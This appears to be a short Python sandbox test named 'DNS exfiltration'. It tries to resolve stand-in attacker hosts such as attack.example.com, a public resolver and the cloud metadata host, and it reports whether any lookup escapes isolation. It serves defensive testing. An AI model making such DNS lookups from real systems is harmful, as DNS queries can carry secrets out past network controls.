# technique: names asked for by getaddrinfo and gethostbyname: data leaves by questions
# source: "DNS exfiltration"
# verdict: WA
# invariant: no name is asked for outside the box
# without: seccomp network capabilities
import socket

for name in ("attack.example.com", "secret.attack.invalid", "dns.google", "metadata.google.internal", "rabbitmq", "postgres"):
    for ask in (socket.gethostbyname, lambda host: socket.getaddrinfo(host, 443), socket.getfqdn if name == "x" else socket.gethostbyname_ex):
        try:
            print("ESCAPED", name, ask(name))
        except OSError as refused:
            print("held", name, refused)
